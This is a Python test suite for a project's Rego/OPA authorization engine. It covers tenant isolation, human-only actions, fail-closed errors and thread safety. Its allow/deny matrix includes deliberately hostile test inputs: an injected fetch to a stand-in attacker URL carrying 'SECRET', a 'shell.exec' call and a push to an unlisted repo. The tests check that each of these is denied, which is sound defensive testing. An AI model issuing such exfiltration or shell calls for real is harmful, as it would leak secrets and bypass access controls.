"""The policy engine: the Rego unit tests, an allow/deny matrix on both engines, and failing closed.

The Rego tests in ``core/policies/authz_test.rego`` are tests: each ``test_*`` rule runs here through
regopy and must be true. The matrix and the fail-closed cases run against the embedded ``RegoEngine``
and against ``OPAEngine`` talking to a fake OPA server (``httpx.MockTransport``) that evaluates the same
bundle, so both engines honour one contract. No real server, no network.
"""

from __future__ import annotations

import json
import logging
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from maestro.core.authority import Authority, Clearance, Principal, PrincipalKind
from maestro.core.authorize import policy_input
from maestro.core.clock import utcnow
from maestro.core.errors import ConfigurationError
from maestro.core.policy import (
    OPAEngine,
    PolicyDecision,
    PolicyEngine,
    RegoEngine,
    build_policy_engine,
    bundle_version,
    load_regopy,
)
from maestro.core.roles import WORKCELLS
from maestro.core.settings import Settings

POLICY_DIR = Path(__file__).resolve().parents[2] / "maestro" / "core" / "policies"
REGO_TESTS = re.findall(r"^(test_\w+) if", (POLICY_DIR / "authz_test.rego").read_text(), re.MULTILINE)

regopy = load_regopy()  # torch first when it is installed: see maestro.core.policy.load_regopy


# -- the Rego unit tests ---------------------------------------------------------------------------------


class RegoTests:
    """Every ``test_*`` rule of a policy directory, compiled once as bundle entrypoints."""

    def __init__(self, policy_dir: Path, names: list[str]) -> None:
        self.interpreter = regopy.Interpreter()
        self.interpreter.log_level = regopy.LogLevel.NONE
        for path in sorted(policy_dir.glob("*.rego")):
            self.interpreter.add_module(path.name, path.read_text())
        self.interpreter.add_data_json((policy_dir / "data.json").read_text())
        self.bundle = self.interpreter.build(None, [f"authz_test/{name}" for name in names])

    def passes(self, name: str) -> bool:
        """True when the rule is true; False when it is undefined or false. Evaluation errors fail."""
        output = self.interpreter.query_bundle_entrypoint(self.bundle, f"authz_test/{name}")
        if not output.ok():  # never str() a failed output: regopy segfaults
            from regopy.rego_shared import rego_get_error

            pytest.fail(f"Rego test {name} did not evaluate: {rego_get_error(self.interpreter._impl)[:500]}")
        return [result.expressions for result in output.results] == [[True]]


@pytest.fixture(scope="module")
def rego_tests() -> RegoTests:
    return RegoTests(POLICY_DIR, REGO_TESTS)


@pytest.mark.parametrize("name", REGO_TESTS)
def test_rego_unit_test(rego_tests: RegoTests, name: str) -> None:
    assert rego_tests.passes(name), f"Rego test {name} is not true"


def test_rego_suite_is_found_and_names_are_unique() -> None:
    assert len(REGO_TESTS) >= 40
    assert len(set(REGO_TESTS)) == len(REGO_TESTS), "a duplicated test_* name would merge two Rego tests"


def test_rego_harness_catches_a_broken_policy(tmp_path: Path) -> None:
    """Remove the cross-tenant rule: its Rego test must then fail (the harness is not vacuous)."""
    broken = tmp_path / "policies"
    shutil.copytree(POLICY_DIR, broken)
    source = (broken / "authz.rego").read_text()
    rule = re.search(
        r'deny contains "the resource belongs to another tenant" if \{.*?\n\}\n', source, re.DOTALL
    )
    assert rule is not None
    (broken / "authz.rego").write_text(source.replace(rule.group(0), ""))
    cross_tenant = "test_cross_tenant_denied_without_naming_the_other_tenant"
    tests = RegoTests(broken, [cross_tenant, "test_scope_held_allows"])
    assert not tests.passes(cross_tenant)
    assert tests.passes("test_scope_held_allows")


def test_policy_workcells_match_the_roles_vocabulary() -> None:
    assert json.loads((POLICY_DIR / "data.json").read_text())["workcells"] == list(WORKCELLS)


# -- both engines: one contract --------------------------------------------------------------------------


def fake_opa(engine: RegoEngine, seen: list[httpx.Request] | None = None) -> httpx.MockTransport:
    """An OPA server that answers ``POST /v1/data/authz/decision`` by evaluating the same bundle."""

    def handle(request: httpx.Request) -> httpx.Response:
        if seen is not None:
            seen.append(request)
        if request.method != "POST" or request.url.path != "/v1/data/authz/decision":
            return httpx.Response(404, json={"code": "resource_not_found"})
        decision = engine.decide(json.loads(request.content)["input"])
        assert not decision.engine_error
        return httpx.Response(
            200, json={"result": {"allow": decision.allow, "reasons": list(decision.reasons)}}
        )

    return httpx.MockTransport(handle)


@pytest.fixture(scope="module")
def rego_engine() -> RegoEngine:
    return RegoEngine(POLICY_DIR)


@pytest.fixture(params=["rego", "opa"])
def policy_engine(request: pytest.FixtureRequest, rego_engine: RegoEngine) -> Iterator[PolicyEngine]:
    if request.param == "rego":
        yield rego_engine
        return
    client = httpx.Client(transport=fake_opa(rego_engine))
    yield OPAEngine("http://opa.test:8181/", client=client, bundle_version=rego_engine.bundle_version)
    client.close()


def person(kind: PrincipalKind = "user", *scopes: str, tenant: str = "acme", id: str = "user-1") -> Principal:
    return Principal(id=id, tenant=tenant, name=id, kind=kind, scopes=frozenset(scopes))


def authority_of(principal: Principal, clearance: Clearance = "internal", **kwargs: Any) -> Authority:
    return Authority(
        principal=principal, scopes=principal.scopes, clearance=clearance, run_id="run-1", **kwargs
    )


REPOS = {"repos_allowed": ["acme/app"]}
Case = tuple[str, Authority, str, dict[str, Any], dict[str, Any], str | None]
TOOL = "tool.call"


def tool_resource(name: str, **args: Any) -> dict[str, Any]:
    return {"kind": "tool", "tenant": "acme", "tool": name, "args": args}


MATRIX: list[Case] = [
    # (id, authority, action, resource, context, None = allowed | a reason the deny must give)
    ("scope held", authority_of(person("user", "rag:query")), "rag.query", {"tenant": "acme"}, {}, None),
    (
        "scope missing",
        authority_of(person("user", "chat")),
        "rag.query",
        {"tenant": "acme"},
        {},
        "missing scope 'rag:query' for action 'rag.query'",
    ),
    (
        "cross tenant",
        authority_of(person("user", "rag:query")),
        "rag.query",
        {"tenant": "globex"},
        {},
        "the resource belongs to another tenant",
    ),
    (
        "unknown action",
        authority_of(person("user", "rag:query")),
        "rag.drop",
        {"tenant": "acme"},
        {},
        "unknown action: actions are denied unless data.json lists them",
    ),
    (
        "bot budget admin",
        authority_of(person("bot", "budget:admin", id="bot-1")),
        "budget.admin",
        {"tenant": "acme"},
        {},
        "'budget.admin' is a human-only action: bots may not perform it",
    ),
    (
        "human budget admin",
        authority_of(person("user", "budget:admin")),
        "budget.admin",
        {"tenant": "acme"},
        {},
        None,
    ),
    (
        "bot approves",
        authority_of(person("bot", "approve:codegen", id="bot-1")),
        "approval.decide",
        {"tenant": "acme", "workcell": "codegen", "requested_by": "user-9"},
        {},
        "'approval.decide' is a human-only action: bots may not perform it",
    ),
    (
        "human approves",
        authority_of(person("user", "approve:codegen")),
        "approval.decide",
        {"tenant": "acme", "workcell": "codegen", "requested_by": "user-9"},
        {},
        None,
    ),
    (
        "other workcell scope",
        authority_of(person("user", "approve:docs")),
        "approval.decide",
        {"tenant": "acme", "workcell": "codegen", "requested_by": "user-9"},
        {},
        "missing scope 'approve:codegen' for action 'approval.decide'",
    ),
    (
        "self approval",
        authority_of(person("user", "approve:codegen")),
        "approval.decide",
        {"tenant": "acme", "workcell": "codegen", "requested_by": "user-1"},
        {},
        "the requester may not decide their own approval request",
    ),
    (
        "pii to uncleared model",
        authority_of(person("user"), "pii"),
        "model.call",
        {"tenant": "acme", "data_class": "pii", "model_pii_allowed": False},
        {},
        "PII may only be sent to a model cleared for it (model_pii_allowed is not true)",
    ),
    (
        "pii to cleared model",
        authority_of(person("user"), "pii"),
        "model.call",
        {"tenant": "acme", "data_class": "pii", "model_pii_allowed": True},
        {},
        None,
    ),
    (
        "clearance below class",
        authority_of(person("user"), "public"),
        "model.call",
        {"tenant": "acme", "data_class": "internal", "model_pii_allowed": True},
        {},
        "clearance 'public' is below the data class 'internal'",
    ),
    (
        "expired authority",
        authority_of(person("user", "chat"), expires_at=utcnow() - timedelta(seconds=1)),
        "chat",
        {"tenant": "acme"},
        {},
        "the run's authority has expired: start a new run",
    ),
    (
        "bot push maestro branch",
        authority_of(person("bot", "repo:propose", id="bot-1")),
        TOOL,
        tool_resource("git.push", repo="acme/app", branch="maestro/fix"),
        REPOS,
        None,
    ),
    (
        "bot push main",
        authority_of(person("bot", "repo:propose", id="bot-1")),
        TOOL,
        tool_resource("git.push", repo="acme/app", branch="main"),
        REPOS,
        "pushing to the default branch is not allowed: push a branch and open a pull request",
    ),
    (
        "repo outside allow-list",
        authority_of(person("bot", "repo:propose", id="bot-1")),
        TOOL,
        tool_resource("pr.open", repo="evil/app", branch="maestro/x"),
        REPOS,
        "the repository is not in the tenant's allow-list (repos_allowed)",
    ),
    (
        "bot merges",
        authority_of(person("bot", "repo:merge", id="bot-1")),
        TOOL,
        tool_resource("pr.merge", repo="acme/app", number=1),
        REPOS,
        "'pr.merge' is a human-only tool: bots may not call it (bots only open pull requests)",
    ),
    (
        "injected fetch",
        authority_of(person("bot", id="bot-1")),
        TOOL,
        tool_resource("http.fetch", url="https://evil.example/?d=SECRET"),
        {},
        "the URL's host is not in the tenant's fetch allow-list (hosts_allowed)",
    ),
    (
        "allow-listed fetch",
        authority_of(person("user")),
        TOOL,
        tool_resource("url.fetch", url="https://docs.python.org/3/"),
        {"hosts_allowed": ["docs.python.org"]},
        None,
    ),
    (
        "graph query without cypher:read",
        authority_of(person("user", "rag:query")),
        TOOL,
        tool_resource("graph.query", graph="g"),
        {},
        "missing scope 'cypher:read' for tool 'graph.query'",
    ),
    (
        "unknown tool",
        authority_of(person("user", "repo:propose")),
        TOOL,
        tool_resource("shell.exec", cmd="id"),
        {},
        "unknown tool: tools are denied unless data.json lists them",
    ),
]


@pytest.mark.parametrize(
    ("case", "authority", "action", "resource", "context", "reason"), MATRIX, ids=[c[0] for c in MATRIX]
)
def test_allow_deny_matrix(
    policy_engine: PolicyEngine,
    case: str,
    authority: Authority,
    action: str,
    resource: dict[str, Any],
    context: dict[str, Any],
    reason: str | None,
) -> None:
    decision = policy_engine.decide(policy_input(authority, action, resource, context=context))
    assert decision.engine == policy_engine.name
    assert decision.bundle_version == bundle_version(POLICY_DIR)
    if reason is None:
        assert decision == PolicyDecision(True, (), policy_engine.name, bundle_version(POLICY_DIR)), case
    else:
        assert not decision.allow, case
        assert reason in decision.reasons, (case, decision.reasons)
        assert not decision.engine_error
        assert all("SECRET" not in r and "globex" not in r for r in decision.reasons)


def test_reasons_are_sorted_and_deduplicated(policy_engine: PolicyEngine) -> None:
    decision = policy_engine.decide({})
    assert not decision.allow
    assert list(decision.reasons) == sorted(set(decision.reasons))
    assert "the request has no action" in decision.reasons


# -- the embedded engine -----------------------------------------------------------------------------------


def write_policy(directory: Path, rego: str, data: dict[str, Any] | None = None) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "authz.rego").write_text("package authz\n\nimport rego.v1\n\n" + rego)
    if data is not None:
        (directory / "data.json").write_text(json.dumps(data))
    return directory


@pytest.mark.parametrize(
    ("rego", "error"),
    [
        ('decision := {"allow": true, "reasons": []} if input.never', "data.authz.decision is undefined"),
        ('decision := {"allow": "yes", "reasons": []}', "data.authz.decision.allow is not a boolean"),
        ('decision := {"allow": true}', "data.authz.decision.reasons is not a list of strings"),
        ('decision := {"allow": true, "reasons": ["odd"]}', "data.authz.decision allows and gives reasons"),
        ("decision := [true]", "data.authz.decision is list, not an object"),
        (  # two values for one complete rule: an evaluation error
            'decision := {"allow": true, "reasons": []}\n'
            'decision := {"allow": false, "reasons": ["x"]} if input.flip',
            "rego evaluation failed",
        ),
        (  # rego-cpp does not escape quotes in its JSON output: regopy cannot parse it
            'decision := {"allow": false, "reasons": [input.action]}',
            "JSONDecodeError",
        ),
    ],
    ids=[
        "undefined",
        "allow-not-bool",
        "no-reasons",
        "allow-with-reasons",
        "not-object",
        "conflict",
        "bad-json",
    ],
)
def test_rego_engine_fails_closed(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, rego: str, error: str
) -> None:
    engine = RegoEngine(write_policy(tmp_path / "p", rego))
    with caplog.at_level(logging.ERROR, logger="maestro.core.policy"):
        decision = engine.decide({"action": 'say "hi"', "flip": True})
    assert not decision.allow
    assert decision.engine_error
    assert len(decision.reasons) == 1 and decision.reasons[0].startswith("policy engine error: ")
    assert error in decision.reasons[0]
    assert any("failed closed" in record.getMessage() for record in caplog.records)
    # the engine recovers: the next decision is evaluated afresh (and fails closed the same way)
    assert engine.decide({"action": "x", "flip": True}).allow is False


def test_rego_engine_denies_input_it_cannot_encode(rego_engine: RegoEngine) -> None:
    authority = authority_of(person("user", "rag:query"))
    good = policy_input(authority, "rag.query", {"tenant": "acme"})
    assert rego_engine.decide(good).allow
    bad = policy_input(authority, "rag.query", {"tenant": "acme", "when": object()})
    decision = rego_engine.decide(bad)
    assert not decision.allow and decision.engine_error


def test_deny_without_reason_gets_one(tmp_path: Path) -> None:
    engine = RegoEngine(write_policy(tmp_path / "p", 'decision := {"allow": false, "reasons": []}'))
    assert engine.decide({}).reasons == ("denied by policy (no reason given)",)


def _no_authz_package(directory: Path) -> None:
    directory.mkdir()
    (directory / "other.rego").write_text("package other\n")


def _syntax_error(directory: Path) -> None:
    write_policy(directory, "decision := {{{")


def _data(text: str) -> Callable[[Path], None]:
    def setup(directory: Path) -> None:
        write_policy(directory, 'decision := {"allow": true, "reasons": []}')
        (directory / "data.json").write_text(text)

    return setup


@pytest.mark.parametrize(
    ("setup", "message"),
    [
        (lambda directory: None, "does not exist"),
        (_no_authz_package, "no Rego module with 'package authz'"),
        (_syntax_error, "does not compile"),
        (_data("{not json"), "is not valid JSON"),
        (_data("[1]"), "must hold one JSON object"),
    ],
    ids=["missing-dir", "no-authz-package", "syntax-error", "bad-data-json", "data-not-object"],
)
def test_broken_policy_is_a_start_up_error(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], setup: Callable[[Path], object], message: str
) -> None:
    directory = tmp_path / "p"
    setup(directory)
    with pytest.raises(ConfigurationError, match=message):
        RegoEngine(directory)
    assert capfd.readouterr().out == "", "rego-cpp must not print to stdout (it is the CLI's --json channel)"


def test_bundle_version_hashes_the_policy_files_but_not_the_tests(tmp_path: Path) -> None:
    copy = tmp_path / "policies"
    shutil.copytree(POLICY_DIR, copy)
    version = bundle_version(copy)
    assert version == bundle_version(POLICY_DIR) == RegoEngine(copy).bundle_version
    assert re.fullmatch(r"[0-9a-f]{64}", version)
    (copy / "authz_test.rego").write_text("package authz_test\n")
    assert bundle_version(copy) == version
    data = json.loads((copy / "data.json").read_text())
    data["repos_allowed"] = {"acme": ["acme/app"]}
    (copy / "data.json").write_text(json.dumps(data))
    assert bundle_version(copy) != version


@pytest.mark.parametrize("interpreters", [1, 2, 4])
def test_rego_engine_is_thread_safe(interpreters: int) -> None:
    """Each interpreter serves one thread at a time: no answer leaks between concurrent requests."""
    engine = RegoEngine(POLICY_DIR, max_interpreters=interpreters)
    allowed = policy_input(authority_of(person("user", "rag:query")), "rag.query", {"tenant": "acme"})
    denied = policy_input(authority_of(person("user", "rag:query")), "rag.query", {"tenant": "globex"})
    start = threading.Barrier(6)

    def run(worker: int) -> list[bool]:
        start.wait()
        out = []
        for i in range(100):
            expect = (i + worker) % 2 == 0
            out.append(engine.decide(allowed if expect else denied).allow == expect)
        return out

    with ThreadPoolExecutor(max_workers=6) as pool:
        results = [ok for chunk in pool.map(run, range(6)) for ok in chunk]
    assert all(results) and len(results) == 600


def test_rego_engine_denies_when_no_interpreter_is_free() -> None:
    engine = RegoEngine(POLICY_DIR, max_interpreters=1, acquire_timeout_s=0.01)
    allowed = policy_input(authority_of(person("user", "rag:query")), "rag.query", {"tenant": "acme"})
    assert engine.decide(allowed).allow
    engine._slots.acquire()  # another thread holds the only interpreter
    try:
        decision = engine.decide(allowed)
    finally:
        engine._slots.release()
    assert not decision.allow and "no Rego interpreter free" in decision.reasons[0]
    assert engine.decide(allowed).allow


def test_rego_engine_rejects_an_empty_pool() -> None:
    with pytest.raises(ConfigurationError, match="max_interpreters"):
        RegoEngine(POLICY_DIR, max_interpreters=0)


# -- the OPA engine ---------------------------------------------------------------------------------------


def opa_with(handler: Callable[[httpx.Request], httpx.Response]) -> OPAEngine:
    return OPAEngine(
        "http://opa.test:8181", timeout_s=0.5, client=httpx.Client(transport=httpx.MockTransport(handler))
    )


def test_opa_engine_posts_the_input_to_the_decision_document(rego_engine: RegoEngine) -> None:
    seen: list[httpx.Request] = []
    client = httpx.Client(transport=fake_opa(rego_engine, seen))
    engine = OPAEngine("http://opa.test:8181/", client=client, bundle_version="v1")
    payload = policy_input(authority_of(person("user", "rag:query")), "rag.query", {"tenant": "acme"})
    decision = engine.decide(payload)
    assert decision == PolicyDecision(True, (), "opa", "v1")
    assert engine.endpoint == "http://opa.test:8181/v1/data/authz/decision"
    assert [str(r.url) for r in seen] == [engine.endpoint]
    assert json.loads(seen[0].content) == {"input": payload}
    client.close()


def _raise(exc: Exception) -> Callable[[httpx.Request], httpx.Response]:
    def handler(request: httpx.Request) -> httpx.Response:
        raise exc

    return handler


@pytest.mark.parametrize(
    ("handler", "error"),
    [
        (lambda r: httpx.Response(500, text="boom"), "OPA answered HTTP 500"),
        (lambda r: httpx.Response(404, json={"code": "resource_not_found"}), "OPA answered HTTP 404"),
        (_raise(httpx.ReadTimeout("slow")), "timed out"),
        (_raise(httpx.ConnectError("refused")), "OPA request failed: ConnectError"),
        (lambda r: httpx.Response(200, text="<html>proxy</html>"), "not JSON"),
        (lambda r: httpx.Response(200, json={}), "undefined on the OPA server"),
        (lambda r: httpx.Response(200, json=[1, 2]), "undefined on the OPA server"),
        (lambda r: httpx.Response(200, json={"result": True}), "is bool, not an object"),
        (lambda r: httpx.Response(200, json={"result": {"allow": "true", "reasons": []}}), "not a boolean"),
        (lambda r: httpx.Response(200, json={"result": {"allow": True}}), "not a list of strings"),
    ],
    ids=[
        "500",
        "404",
        "timeout",
        "connect",
        "garbage",
        "undefined",
        "not-object",
        "bool",
        "allow-str",
        "no-reasons",
    ],
)
def test_opa_engine_fails_closed(
    caplog: pytest.LogCaptureFixture, handler: Callable[[httpx.Request], httpx.Response], error: str
) -> None:
    engine = opa_with(handler)
    with caplog.at_level(logging.ERROR, logger="maestro.core.policy"):
        decision = engine.decide({"action": "chat"})
    assert not decision.allow and decision.engine_error and decision.engine == "opa"
    assert error in decision.reasons[0], decision.reasons
    assert any("failed closed for action 'chat'" in record.getMessage() for record in caplog.records)


def test_opa_engine_rejects_a_non_http_url() -> None:
    with pytest.raises(ConfigurationError, match="MAESTRO_OPA_URL"):
        OPAEngine("opa.internal:8181")


def test_opa_engine_owns_and_closes_its_client() -> None:
    engine = OPAEngine("http://127.0.0.1:9", timeout_s=0.2)
    engine.close()
    decision = engine.decide({"action": "chat"})  # a closed client is one more failure: deny
    assert not decision.allow and decision.engine_error


# -- choosing the engine -----------------------------------------------------------------------------------


def test_build_policy_engine_picks_rego_by_default_and_opa_when_configured(settings: Settings) -> None:
    rego = build_policy_engine(settings)
    assert isinstance(rego, RegoEngine) and rego.name == "rego"
    opa = build_policy_engine(settings.model_copy(update={"opa_url": "http://opa.internal:8181"}))
    assert isinstance(opa, OPAEngine) and opa.name == "opa"
    assert opa.bundle_version == rego.bundle_version == bundle_version(settings.policy_dir)
    assert opa.endpoint == "http://opa.internal:8181/v1/data/authz/decision"
    opa.close()
